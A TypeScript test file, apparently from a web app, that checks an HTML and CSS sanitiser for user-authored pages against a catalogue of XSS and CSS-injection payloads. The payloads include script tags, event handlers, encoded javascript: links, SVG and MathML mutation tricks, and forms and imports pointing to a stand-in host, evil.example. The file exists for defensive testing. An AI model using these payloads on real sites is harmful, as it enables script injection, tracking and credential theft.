import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { cssMediaIds, EXPERT_MEDIA_PATH, sanitiseExpertCss } from './expert-css';
import { htmlMediaIds, sanitiseExpertHtml } from './expert-sanitiser';

const IMAGE = '0b7c1a2e-1111-4222-8333-944455556666';
const OTHER_IMAGE = '9f0e8d7c-2222-4333-8444-a55566667777';
const images = new Set([IMAGE]);

/** XSS payloads an expert page might hold (or be pasted with), by family. */
const PAYLOADS: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script split by a null', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['event handler', '<p onclick="alert(1)">x</p>'],
  ['event handler on an image', `<img src="/api/media/${IMAGE}" onerror="alert(1)">`],
  ['event handler without quotes', '<div onmouseover=alert(1)>x</div>'],
  ['event handler after a slash', '<a/onmouseover=alert(1)>x</a>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: link with spaces and case', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  [
    'javascript: link, entity encoded',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  ],
  ['javascript: link, hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ['javascript: link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['javascript: image', '<img src="javascript:alert(1)">'],
  ['external image', '<img src="https://evil.example/track.png">'],
  ['protocol-relative image', '<img src="//evil.example/track.png">'],
  ['srcset to another site', `<img src="/api/media/${IMAGE}" srcset="https://evil.example/a.png 2x">`],
  ['another account’s picture', `<img src="/api/media/${OTHER_IMAGE}">`],
  ['style url() to another site', '<div style="background:url(https://evil.example/x.png)">x</div>'],
  ['style url(javascript:)', '<div style="background-image:url(javascript:alert(1))">x</div>'],
  ['style expression()', '<div style="width:expression(alert(1))">x</div>'],
  ['style behaviour', '<div style="behavior:url(x.htc)">x</div>'],
  ['style escaped url', '<div style="background:\\75rl(https://evil.example/x)">x</div>'],
  ['style breaking out', '<div style="color:red;}</style><script>alert(1)</script>">x</div>'],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['math link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['form', '<form action="https://evil.example"><input name="password"><button>Go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['style element', '<style>@import "https://evil.example/x.css";</style>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['comment mutation', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['textarea mutation', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['title mutation', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['target without rel', '<a href="https://example.com" target="_blank">x</a>'],
  ['xlink', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['data attribute', '<div data-bind="alert(1)">x</div>'],
];

const ALLOWED_ATTRIBUTES =
  /^(class|id|title|lang|dir|role|style|aria-[a-z]+|href|target|rel|src|alt|width|height|loading|colspan|rowspan|scope|datetime|start|reversed|open)$/;
const ALLOWED_TAGS = new Set(
  'div span p br hr h1 h2 h3 h4 h5 h6 strong em b i u s small mark sub sup abbr time code pre blockquote q cite ul ol li dl dt dd a img figure figcaption section article header footer nav aside main table caption thead tbody tfoot tr th td details summary'.split(
    ' ',
  ),
);

/** What a browser would build from the output: every element and attribute must be harmless. */
function problems(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!ALLOWED_TAGS.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!ALLOWED_ATTRIBUTES.test(attribute)) found.push(`${name} ${attribute}`);
          if (attribute === 'href' && !/^(https?:|mailto:|tel:|\/(?!\/))/i.test(value)) found.push(`href ${value}`);
          if (attribute === 'src' && !EXPERT_MEDIA_PATH.test(value)) found.push(`src ${value}`);
          if (attribute === 'src' && !value.includes(IMAGE)) found.push(`foreign picture ${value}`);
          if (attribute === 'style' && /url\(|expression|behavior|[<>\\]/i.test(value)) found.push(`style ${value}`);
        }
        if (name === 'a' && attributes.target && attributes.rel !== 'noopener noreferrer')
          found.push('target without rel');
      },
    },
    { decodeEntities: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

describe('the expert HTML sanitiser', () => {
  it.each(PAYLOADS)('leaves nothing harmful of a payload: %s', (_name, payload) => {
    const { html } = sanitiseExpertHtml(`<div>${payload}</div>`, { images });
    expect(problems(html), html).toEqual([]);
    expect(html.toLowerCase()).not.toMatch(/<script|javascript:|vbscript:|data:|onerror|onload|onclick|onmouseover/);
  });

  it('keeps an ordinary page as written: text, layout, links and the account’s pictures', () => {
    const page = `<section class="hero"><h1 style="color:#7b1e3a;text-align:center">{{product.title}}</h1><p>Thanks &amp; welcome, <a href="https://shop.example.com/x?a=1&amp;b=2">our shop</a>, <a href="mailto:care@example.com">mail us</a>.</p><img src="/api/media/${IMAGE}" alt="Logo" width="128" /><table><tr><th scope="row">Year</th><td>2020</td></tr></table></section>`;
    expect(sanitiseExpertHtml(page, { images })).toEqual({ html: page, removed: [] });
  });

  it('says what it left out, for the expert', () => {
    const { removed } = sanitiseExpertHtml(
      '<p onclick="x()">a</p><iframe src="https://x.example"></iframe><a href="javascript:x()">b</a>',
      {
        images,
      },
    );
    expect(removed).toEqual(['p onclick', '<iframe>', 'a href: javascript:x()']);
  });

  it('turns block placeholders written as text into the slots the page fills, never inside an attribute', () => {
    const { html } = sanitiseExpertHtml('<div title="{{result}}">{{result}}</div><p>{{unknown}}</p>', {
      images,
      slot: (name) => (name === 'result' ? '<div data-slot="result"></div>' : null),
    });
    expect(html).toBe('<div title="{{result}}"><div data-slot="result"></div></div><p>{{unknown}}</p>');
  });

  it('serves pictures from the address given, and finds the media ids a page shows', () => {
    const page = `<img src="/api/media/${IMAGE}" alt=""><img src="/api/media/${OTHER_IMAGE}">`;
    expect(htmlMediaIds(page)).toEqual([IMAGE, OTHER_IMAGE]);
    const { html } = sanitiseExpertHtml(page, { images, imageUrl: (id) => `/public/${id}` });
    expect(html).toBe(`<img src="/public/${IMAGE}" alt="" />`);
  });
});

describe('the expert CSS sanitiser', () => {
  const clean = (css: string) => sanitiseExpertCss(css, { scope: '.theme-expert', images });

  it.each([
    ['@import', '@import url("https://evil.example/x.css");'],
    ['@import without url', '@import "https://evil.example/x.css";'],
    ['@font-face from another site', '@font-face{font-family:x;src:url(https://evil.example/x.woff)}'],
    ['expression()', 'p{width:expression(alert(1))}'],
    ['url() to another site', 'p{background:url(https://evil.example/x.png)}'],
    ['url() protocol-relative', 'p{background:url(//evil.example/x.png)}'],
    ['url(javascript:)', 'p{background-image:url("javascript:alert(1)")}'],
    ['url(data:)', 'p{background-image:url(data:image/svg+xml;base64,PHN2Zz4=)}'],
    ['another account’s picture', `p{background:url(/api/media/${OTHER_IMAGE})}`],
    ['escaped url', 'p{background:\\75 rl(https://evil.example/x)}'],
    ['comment inside url', 'p{background:u/**/rl(https://evil.example/x)}'],
    ['behaviour', 'p{behavior:url(x.htc)}'],
    ['-moz-binding', 'p{-moz-binding:url(https://evil.example/x.xml#x)}'],
    ['closing the style element', 'p{font-family:"</style><script>alert(1)</script>"}'],
    ['a selector closing the style element', 'p[title="</style><script>alert(1)</script>"]{color:red}'],
    ['position over the answer', 'p{position:fixed;top:0;left:0;z-index:9999}'],
    ['content faking text', 'p::before{content:"Authentic"}'],
    ['image-set to another site', 'p{background-image:image-set("https://evil.example/x.png" 1x)}'],
  ])('leaves nothing harmful of %s', (_name, css) => {
    const result = clean(css).css;
    expect(result.toLowerCase(), result).not.toMatch(
      /@import|@font-face|expression|evil|javascript|data:|behavior|binding|<\/style|<script|position|z-index|content|url\(\/api\/media\/9f0e/,
    );
  });

  it('scopes every rule under the wrapper, the page’s own selectors being the wrapper itself', () => {
    expect(
      clean('body{color:#222} h1, .lead>p{margin:0 auto} @media (max-width: 600px){h1{font-size:1.5rem}}').css,
    ).toBe(
      '.theme-expert{color:#222} .theme-expert h1, .theme-expert .lead>p{margin:0 auto} @media (max-width: 600px){.theme-expert h1{font-size:1.5rem}}',
    );
  });

  it('keeps the account’s pictures, at the address given', () => {
    const css = `.hero{background:#fff url('/api/media/${IMAGE}') no-repeat}`;
    expect(cssMediaIds(css)).toEqual([IMAGE]);
    expect(sanitiseExpertCss(css, { scope: '', images, imageUrl: (id) => `/public/${id}` }).css).toBe(
      `.hero{background:#fff url("/public/${IMAGE}") no-repeat}`,
    );
  });

  it('refuses CSS it cannot read rather than guess', () => {
    expect(clean('p{color:red')).toMatchObject({ css: expect.not.stringContaining('evil') });
    expect(clean('p{color:red}}} a{').css).not.toContain('a{');
  });
});
